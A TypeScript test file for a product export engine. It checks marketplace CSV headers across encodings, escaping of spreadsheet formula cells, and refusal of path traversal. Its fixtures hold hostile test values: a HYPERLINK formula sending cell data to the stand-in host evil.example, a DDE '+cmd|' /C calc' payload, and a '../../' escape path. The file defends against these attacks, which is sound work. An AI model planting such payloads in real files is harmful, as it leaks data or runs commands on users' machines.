// Every format's exact header under every encoding, Chinese text surviving each, and no exported text cell a spreadsheet would run as a formula.
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import iconv from 'iconv-lite';
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { openStore, type Store } from '../../engine/db/store';
import { runExport, type ExportRequest } from '../../engine/export/run';
import type { ExportEncoding } from '../../engine/export/types';
import { seedExportStore, T, TITLE } from './export-fixture';
import { engineOnFreshStore, tempDir } from './helpers';

const ENCODINGS: ExportEncoding[] = ['utf8', 'utf8-bom', 'gb18030'];
/** Published column names: Amazon Price & Quantity, Shopify product CSV, eBay File Exchange, WooCommerce importer. */
const CASES: { name: string; req: Partial<ExportRequest>; header: string; delimiter: ',' | '\t'; titleCol: number | null }[] = [
  { name: 'amazon', req: { format: 'amazon' }, header: 'sku\tprice\tquantity', delimiter: '\t', titleCol: null },
  { name: 'amazon min/max', req: { format: 'amazon', options: { amazonMinMax: true } }, header: 'sku\tprice\tminimum-seller-allowed-price\tmaximum-seller-allowed-price\tquantity', delimiter: '\t', titleCol: null },
  { name: 'shopify', req: { format: 'shopify' }, header: 'Handle,Title,Option1 Name,Option1 Value,Option2 Name,Option2 Value,Variant SKU,Variant Inventory Qty,Variant Price,Variant Compare At Price,Cost per item,Status', delimiter: ',', titleCol: 1 },
  { name: 'shopify legacy', req: { format: 'shopify', options: { shopifyLegacy: true } }, header: 'Handle,Variant SKU,Variant Price,Variant Compare At Price', delimiter: ',', titleCol: null },
  { name: 'ebay', req: { format: 'ebay', options: { ebaySiteId: 'Germany', ebayCountry: 'DE', ebayCurrency: 'EUR' } }, header: '*Action(SiteID=Germany|Country=DE|Currency=EUR|Version=1193),CustomLabel,StartPrice,Quantity', delimiter: ',', titleCol: null },
  { name: 'woocommerce', req: { format: 'woocommerce' }, header: 'SKU,In stock?,Stock,Sale price,Regular price', delimiter: ',', titleCol: null },
  { name: 'csv (taobao preset)', req: { format: 'csv', preset: 'taobao' }, header: '宝贝标题,商家编码,价格,数量', delimiter: ',', titleCol: 0 },
  { name: 'csv (no mapping)', req: { format: 'csv' }, header: 'sku,price,quantity', delimiter: ',', titleCol: null },
];

describe('export files', () => {
  let store: Store;
  let tmp: { dir: string; cleanup: () => void };
  let n = 0;
  beforeEach(() => {
    tmp = tempDir('desk-export-safety-');
    store = openStore(':memory:');
    seedExportStore(store.db);
  });
  afterEach(() => {
    store.close();
    tmp.cleanup();
  });
  const run = (req: Partial<ExportRequest>, encoding: ExportEncoding = 'utf8'): ReturnType<typeof runExport> =>
    runExport(store.db, { format: 'csv', path: join(tmp.dir, `f${++n}.${req.format === 'xlsx' ? 'xlsx' : 'csv'}`), encoding, now: T, ...req });
  const decode = (path: string, encoding: ExportEncoding): string => {
    const bytes = readFileSync(path);
    expect(bytes[0] === 0xef && bytes[1] === 0xbb && bytes[2] === 0xbf, path).toBe(encoding === 'utf8-bom');
    return encoding === 'gb18030' ? iconv.decode(bytes, 'gb18030') : iconv.decode(bytes, 'utf8', { stripBOM: true });
  };

  it('each format writes its exact header in utf8, utf8-bom and gb18030; Chinese titles survive in the file and in the held-rows report', async () => {
    // With no English title, Shopify's Title column carries the Chinese one.
    store.db.prepare('UPDATE products SET title_en = NULL WHERE id = 1').run();
    for (const c of CASES) {
      // The eBay file is in EUR: priced in CNY every row would be held back, and a file with no row is not written.
      store.db.prepare('UPDATE products SET currency = ?').run(c.req.format === 'ebay' ? 'EUR' : 'CNY');
      for (const encoding of ENCODINGS) {
        const r = await run(c.req, encoding);
        const lines = decode(r.path, encoding).split('\r\n');
        expect(lines[0], `${c.name} ${encoding}`).toBe(c.header);
        if (c.titleCol !== null) expect(lines[1].split(c.delimiter)[c.titleCol], `${c.name} ${encoding}`).toBe(TITLE);
        // AP-0003 (牛仔裤) is held back under MAP in every format; its report is in the same encoding (utf8 gets a BOM for Excel).
        expect(r.held.map((h) => h.sku), c.name).toContain('AP-0003');
        const held = decode(r.heldPath as string, encoding === 'utf8' ? 'utf8-bom' : encoding);
        expect(held.split('\r\n')[1], `${c.name} ${encoding}`).toMatch(/^AP-0003,牛仔裤,112,120,clamped_low,.*MAP.*最低广告价/);
        if (encoding === 'gb18030') expect(readFileSync(r.heldPath as string).includes(Buffer.from('牛仔裤', 'utf8'))).toBe(false);
      }
    }
  });

  it('text cells that a spreadsheet would run as a formula are written as text; prices and quantities stay numbers', async () => {
    const hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
    store.db.prepare(`INSERT INTO products (id, sku, title_zh, title_en, category, brand, cost, price, currency, attributes, status, created_at, updated_at)
      VALUES (5, '@SUM(1+1)', '+cmd|'' /C calc''!A0', ?, 'apparel', '-2+3', 20, 50, 'CNY', ?, 'active', ?, ?)`).run(hostile, JSON.stringify({ handle: '-h', option1_name: '\tSize' }), T, T);
    store.db.prepare('UPDATE products SET title_zh = ? WHERE id = 3').run('=1+2 牛仔裤'); // held back: the report is opened in Excel too
    // The eBay file in CNY, the products' currency: in USD every row is held back and no file is written.
    const files: { path: string; delimiter: string }[] = [];
    for (const req of [{ format: 'amazon' }, { format: 'shopify' }, { format: 'shopify', options: { shopifyLegacy: true } }, { format: 'ebay', options: { ebayCurrency: 'CNY' } }, { format: 'woocommerce' }, { format: 'csv', preset: 'other' }, { format: 'csv', preset: 'taobao' }] as Partial<ExportRequest>[]) {
      const r = await run(req);
      files.push({ path: r.path, delimiter: req.format === 'amazon' ? '\t' : ',' }, { path: r.heldPath as string, delimiter: ',' });
    }
    let checked = 0;
    for (const f of files) {
      const rows = parse(readFileSync(f.path, 'utf8'), { delimiter: f.delimiter, bom: true, relax_column_count: true, relax_quotes: true }) as string[][];
      for (const cell of rows.slice(1).flat()) {
        expect(cell, f.path).not.toMatch(/^[=+\-@\t\r]/);
        checked++;
      }
    }
    expect(checked).toBeGreaterThan(100);
    const amazon = readFileSync(files[0].path, 'utf8');
    expect(amazon).toContain("'@SUM(1+1)\t50.00\t\r\n");
    const shopify = parse(readFileSync(files[2].path, 'utf8')) as string[][];
    expect(shopify.find((r) => r[6] === "'@SUM(1+1)")?.slice(0, 9)).toEqual(["'-h", `'${hostile}`, "'\tSize", '', '', '', "'@SUM(1+1)", '', '50.00']);
    const other = parse(readFileSync(files[10].path, 'utf8'), { bom: true }) as string[][];
    expect(other.find((r) => r[0] === "'@SUM(1+1)")).toEqual(["'@SUM(1+1)", `'${hostile}`, '50.00', 'CNY', '']);
    expect(readFileSync(files[3].path, 'utf8')).toContain("'=1+2 牛仔裤");

    const x = await run({ format: 'xlsx', preset: 'jd' });
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(x.path);
    const row = wb.worksheets[0].getRow(2).values as unknown[]; // '@' sorts before 'A'
    expect(row.slice(1, 4)).toEqual(["'@SUM(1+1)", "'+cmd|' /C calc'!A0", 50]);
    expect(wb.worksheets[0].getRow(3).getCell(3).value).toBe(103.5);
  });

  it('a SKU starting with - or + reaches every marketplace feed unchanged (an apostrophe would make it another SKU); one that could run something is still escaped', async () => {
    // Priced in EUR, the currency of the eBay case's file (eBay holds back a price in any other currency).
    const ins = store.db.prepare(`INSERT INTO products (id, sku, title_en, category, cost, price, currency, status, created_at, updated_at) VALUES (?, ?, 'Tee', 'apparel', 20, 50, 'EUR', 'active', ?, ?)`);
    ins.run(6, '-TEE-01', T, T);
    ins.run(7, '+SIZE XL/2', T, T);
    ins.run(8, '-1+cmd|calc', T, T);
    for (const c of CASES) {
      const r = await run(c.req);
      const rows = parse(readFileSync(r.path, 'utf8'), { delimiter: c.delimiter, bom: true, relax_column_count: true, relax_quotes: true }) as string[][];
      const cells = rows.slice(1).flat();
      expect(cells, c.name).toContain('-TEE-01');
      expect(cells, c.name).toContain('+SIZE XL/2');
      expect(cells, c.name).toContain("'-1+cmd|calc");
      expect(cells, c.name).not.toContain('-1+cmd|calc');
    }
    const x = await run({ format: 'xlsx', preset: 'jd' });
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(x.path);
    const values: unknown[] = [];
    wb.worksheets[0].eachRow((row) => values.push(...(row.values as unknown[])));
    expect(values).toContain('-TEE-01');
    expect(values).toContain("'-1+cmd|calc");
  });
});

describe('export.run paths', () => {
  it('writes under the exports folder by default; refuses a relative path that leaves it and a file without the format extension', async () => {
    const { engine, dir, close } = await engineOnFreshStore();
    try {
      seedExportStore(engine.store.db);
      const r = await engine.invoke('export.run', { format: 'amazon' });
      expect(r.path.startsWith(join(dir, 'exports'))).toBe(true);
      expect(readFileSync(r.path, 'utf8').split('\r\n')[0]).toBe('sku\tprice\tquantity');
      expect((await engine.invoke('export.run', { format: 'woocommerce', path: 'woo.csv' })).path).toBe(join(dir, 'exports', 'woo.csv'));
      await expect(engine.invoke('export.run', { format: 'shopify', path: '../../escape.csv' })).rejects.toThrow(/exports folder/);
      await expect(engine.invoke('export.run', { format: 'csv', path: join(dir, 'run.sh') })).rejects.toThrow(/\.csv, \.txt/);
      expect(existsSync(join(dir, 'run.sh'))).toBe(false);
    } finally {
      await close();
    }
  });

});
